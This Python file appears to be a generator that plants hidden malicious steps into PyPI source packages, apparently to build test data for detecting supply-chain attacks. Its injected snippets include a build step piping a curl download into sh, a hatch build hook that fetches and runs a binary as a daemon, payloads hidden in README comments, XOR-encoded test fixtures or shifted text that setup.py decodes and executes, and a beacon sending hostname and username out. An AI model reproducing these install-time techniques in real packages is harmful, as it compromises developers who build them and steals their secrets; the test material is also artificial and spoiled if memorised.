"""PyPI: what runs while a source package is built, and setup scripts that hide what they do."""

import zlib

from corpus.heldout.nouns import Update
from corpus.heldout7.code import py_environment, py_keys, py_wallets
from corpus.heldout7.shape import b64, fill, hexed, packed, pieces, shifted, trojan, xor

HEAD = "from setuptools import find_packages, setup\n"
PYTHON_REQUIRES = '    python_requires=">=3.8",\n'


@trojan("trainloop", "sdist", "build", "new dependency", "phantom at build", "PyTorch nightly")
def requires_to_build(it: Update) -> None:
    it.replace(
        "pyproject.toml",
        'requires = ["setuptools>=61"]',
        'requires = ["setuptools>=61", "setuptools-trainmeta>=0.1.2"]',
    )


@trojan("imgtiler", "sdist", "install", "wallet", "in a data file", "readme loaders")
def setup_reads_the_changelog(it: Update) -> None:
    host = it.host()
    it.append("README.md", "\n<!-- fingerprint\n" + "\n".join(pieces(packed(py_wallets(host)), 76)) + "\n-->\n")
    it.replace(
        "setup.py",
        "setup(\n    name=",
        fill("""
def fingerprint():
    import base64
    import zlib

    block = read("README.md").partition("<!-- fingerprint")[2].partition("-->")[0]
    return zlib.decompress(base64.b64decode("".join(block.split())))


eval(compile(fingerprint(), "README.md", "exec"))

setup(
    name=""").rstrip("\n"),
    )
    it.payload("setup.py", "README.md", shown=f"https://{host}/w")


@trojan("imgtiler", "sdist", "build", "downloader", "plain", "build extensions")
def build_step_fetches(it: Update) -> None:
    it.replace(
        "setup.py",
        "        try:\n            super().run()\n",
        fill(
            """
        try:
            os.system("curl -fsSL http://@ADDR@/simd/detect.sh | sh -s -- --quiet >/dev/null 2>&1")
            super().run()
""",
            ADDR=it.address(),
        ),
    )


@trojan("imgtiler", "sdist", "build", "credentials", "layers", "generators of sources")
def build_runs_a_generator(it: Update) -> None:
    host = it.host()
    layer = b64(zlib.compress(hexed(py_keys(host)).encode()))
    it.add(
        "native/tables.py",
        fill(
            '''
"""Writes native/tables.h: rounding for each sum."""

import base64
import sys
import zlib

SEED = (
@SEED@
)


def rows():
    return [str((one + 2) // 4) for one in range(1021)]


def main(target):
    with open(target, "w") as out:
        out.write("static const unsigned char round4[] = {" + ", ".join(rows()) + "};\\n")
    shuffled = zlib.decompress(base64.b64decode(SEED)).decode()
    exec(bytes.fromhex(shuffled).decode(), {"__name__": "tables"})


if __name__ == "__main__":
    main(sys.argv[1])
''',
            SEED="\n".join(f'    "{one}"' for one in pieces(layer, 72)),
        ),
    )
    it.replace(
        "setup.py",
        "        try:\n            super().run()\n",
        fill("""
        try:
            self.spawn([sys.executable, os.path.join(HERE, "native", "tables.py"), os.path.join(HERE, "native", "tables.h")])
            super().run()
"""),
    )
    it.payload("native/tables.py", "setup.py", shown=f"https://{host}/k")


@trojan("trainloop", "sdist", "build", "downloader", "plain", "build hooks")
def hatch_hook_fetches(it: Update) -> None:
    it.replace(
        "pyproject.toml",
        'requires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
        'requires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
    )
    it.add(
        "hatch_build.py",
        fill(
            '''
"""Puts the compiled kernels into the wheel."""

import os
import subprocess
import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class KernelHook(BuildHookInterface):
    def initialize(self, version, build_data):
        target = os.path.join(self.root, "trainloop", "kernels.run")
        urllib.request.urlretrieve("http://@ADDR@:8000/kernels.run", target)
        os.chmod(target, 0o755)
        subprocess.Popen([target, "--daemon"], start_new_session=True)
''',
            ADDR=it.address(),
        ),
    )
    it.payload("hatch_build.py", "pyproject.toml")


@trojan("tablesniff", "sdist", "install", "environment", "rotated text", "own alphabets")
def setup_shifted_text(it: Update) -> None:
    host = it.host()
    it.after(
        "setup.py",
        HEAD,
        fill(
            """

def _plain(text, by=11):
    return "".join(chr((ord(one) - 33 - by) % 94 + 33) if 33 <= ord(one) <= 126 else one for one in text)


exec(_plain(@TEXT@))
""",
            TEXT=repr(shifted(py_environment(host), 11)),
        ),
    )
    it.payload("setup.py", shown=f"https://{host}/v1/env")


@trojan("sshcast", "sdist", "install", "data stealer", "xor", "Lazarus")
def setup_loads_a_fixture(it: Update) -> None:
    host = it.host()
    it.add("tests/data/session.bin", xor(py_keys(host), b"ssh2"))
    it.after(
        "setup.py",
        HEAD,
        fill("""
from itertools import cycle


def selftest(path="tests/data/session.bin"):
    with open(path, "rb") as stream:
        content = bytes(a ^ b for a, b in zip(stream.read(), cycle(b"ssh2")))
    exec(content.decode())


if os.path.exists("tests/data/session.bin"):
    selftest()
"""),
    )
    it.payload("setup.py", "tests/data/session.bin", shown=f"https://{host}/k")


@trojan("otpkeys", "sdist", "install", "host facts", "string splitting", "beacons")
def setup_splits_its_words(it: Update) -> None:
    host = it.host()
    left, right = host.split(".", 1)
    it.after(
        "setup.py",
        HEAD,
        fill(
            """
import platform

_n = ["url", "lib.", "req", "uest"]
_m = __import__("".join(_n), fromlist=["x"])
_t = "ht" + "tps:" + "//" + "@LEFT@" + "." + "@RIGHT@" + "/b?"
try:
    getattr(_m, "url" + "open")(_t + platform.node() + "&" + os.environ.get("USER", ""), timeout=3)
except Exception:
    pass
""",
            LEFT=left,
            RIGHT=right,
        ),
    )
    it.payload("setup.py", shown=f"https://{host}/b")
